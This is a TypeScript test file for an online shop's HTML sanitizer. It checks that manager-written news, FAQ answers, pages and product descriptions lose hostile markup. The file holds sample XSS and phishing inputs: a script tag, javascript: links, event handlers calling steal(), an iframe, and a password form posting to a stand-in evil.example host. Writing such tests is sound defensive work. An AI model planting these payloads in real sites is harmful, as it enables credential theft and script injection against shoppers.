import type { FastifyInstance } from 'fastify';
import type { Database } from '../src/db/client';
import { buildTestApp } from './helpers';
import { operatorWithToken, type TestOperator } from './support/operators';

// One list of tags for every text a manager writes as HTML (issue 36): news, FAQ answers, pages and
// product descriptions all lose what acts or restyles the shop and keep what a text is made of.

let app: FastifyInstance;
let db: Database;
let manager: TestOperator;
beforeAll(async () => {
  ({ app, db } = await buildTestApp());
  manager = await operatorWithToken(app, db, 'manager');
});
afterAll(() => app.close());

const as = (method: 'GET' | 'POST' | 'PUT', url: string, payload?: object) =>
  app.inject({ method, url, payload, headers: { ...manager.auth, 'accept-language': 'en' } });

const hostile = [
  '<style>body { display: none }</style>',
  '<form action="https://evil.example/steal"><input type="password" name="pw"><button>Sign in</button></form>',
  '<p onclick="steal()" onmouseover="steal()">Hover</p>',
  '<a href="javascript:alert(1)">Win</a>',
  '<script>alert(1)</script>',
  '<iframe src="https://evil.example"></iframe>',
  '<p style="position:fixed;inset:0">Cover</p>',
].join('');
const kept =
  '<h2>Terms</h2><p>A <strong>paragraph</strong> with <a href="https://example.com/terms">a link</a>.</p>' +
  '<ul><li>one</li></ul><ol><li>two</li></ol>' +
  '<table><thead><tr><th>Aperture</th></tr></thead><tbody><tr><td>200 mm</td></tr></tbody></table>';

/** what the sanitizer leaves of the hostile part: the texts only, as text */
const hostileLeft = '<p>Hover</p><a>Win</a><p>Cover</p>';

describe('the allowlist of manager-written HTML', () => {
  it('removes style, forms, handlers, scripts and javascript: links from a page, keeping its structure', async () => {
    const about = (await as('GET', '/api/admin/pages/delivery')).json();
    const edited = await as('PUT', '/api/admin/pages/delivery', {
      html: { en: kept + hostile, ka: hostile },
      version: about.version,
    });
    expect(edited.statusCode).toBe(200);
    const html: string = edited.json().html.en;
    expect(html).not.toMatch(/<style|<form|<input|<button|<script|<iframe|onclick|onmouseover|javascript:|style=/i);
    expect(html).not.toContain('display: none');
    expect(html).toBe(`${kept}Sign in${hostileLeft}`);
    expect(edited.json().html.ka).toBe(`Sign in${hostileLeft}`);
    const storefront = await app.inject({
      method: 'GET',
      url: '/api/delivery-policy',
      headers: { 'accept-language': 'en' },
    });
    expect(storefront.json().data.translations[0].html).toBe(html);
  });

  it('keeps to the same list in news, FAQ answers and product descriptions', async () => {
    const news = await as('POST', '/api/admin/news', {
      slug: 'allowlist',
      title: { en: 'Allowlist' },
      text: { en: kept + hostile },
    });
    const faq = await as('POST', '/api/admin/faq', {
      question: { en: 'Allowed?' },
      answer: { en: kept + hostile },
      position: 0,
    });
    const refractors = (await db.query<{ id: number }>("SELECT id FROM categories WHERE slug = 'refractors'")).rows[0]
      .id;
    const product = await as('POST', '/api/admin/products', {
      categoryId: refractors,
      name: { en: 'Allowlist 60' },
      price: 100,
      description: { en: kept + hostile, ka: hostile },
    });
    const expected = `${kept}Sign in${hostileLeft}`;
    expect([news.json().text.en, faq.json().answer.en, product.json().description.en]).toEqual([
      expected,
      expected,
      expected,
    ]);
  });

  it('keeps an edited story, answer and description to the list too, in both languages', async () => {
    const news = (
      await as('POST', '/api/admin/news', { slug: 'edited-allowlist', title: { en: 'Edited' }, text: { en: kept } })
    ).json();
    const faq = (
      await as('POST', '/api/admin/faq', { question: { en: 'Edited?' }, answer: { en: kept }, position: 1 })
    ).json();
    const editedNews = await as('PUT', `/api/admin/news/${news.id}`, {
      slug: 'edited-allowlist',
      title: { en: 'Edited' },
      text: { en: hostile, ka: kept + hostile },
      version: news.version,
    });
    const editedFaq = await as('PUT', `/api/admin/faq/${faq.id}`, {
      question: { en: 'Edited?' },
      answer: { en: hostile, ka: hostile },
      position: 1,
      version: faq.version,
    });
    expect([editedNews.json().text, editedFaq.json().answer]).toEqual([
      { en: `Sign in${hostileLeft}`, ka: `${kept}Sign in${hostileLeft}` },
      { en: `Sign in${hostileLeft}`, ka: `Sign in${hostileLeft}` },
    ]);
  });

  it("keeps the editor's paragraphs, headings, emphasis, lists and links as they are (two paragraphs stay two)", async () => {
    const written =
      '<h2>First light</h2><p>The club meets at <strong>nine</strong>, <em>weather permitting</em>.</p>' +
      '<p>Bring a <a href="https://example.com/map" target="_blank" rel="noopener noreferrer nofollow">red torch</a>.</p>' +
      '<h3>What to bring</h3><ul><li><p>Warm clothes</p></li></ul><ol><li><p>A chair</p></li></ol>';
    const news = await as('POST', '/api/admin/news', {
      slug: 'editor-output',
      title: { en: 'Editor output' },
      text: { en: written },
    });
    // the editor's link target is dropped (a new tab is the shopper's choice); nothing else changes
    expect(news.json().text.en).toBe(written.replace(' target="_blank" rel="noopener noreferrer nofollow"', ''));
    const shown = await app.inject({ method: 'GET', url: '/api/news/editor-output' });
    expect(
      shown
        .json()
        .data.translations.find((t: { locale: string }) => t.locale === 'en')
        .text.match(/<p>/g),
    ).toHaveLength(4);
  });

  it('makes plain text parted by blank lines into paragraphs, its single line breaks kept', async () => {
    const news = await as('POST', '/api/admin/news', {
      slug: 'two-paragraphs',
      title: { en: 'Two paragraphs' },
      text: { en: 'First light at the club.\nBring warm clothes.\r\n\r\nSecond paragraph <em>here</em>.' },
    });
    expect(news.json().text.en).toBe(
      '<p>First light at the club.<br>Bring warm clothes.</p><p>Second paragraph <em>here</em>.</p>',
    );
  });
});
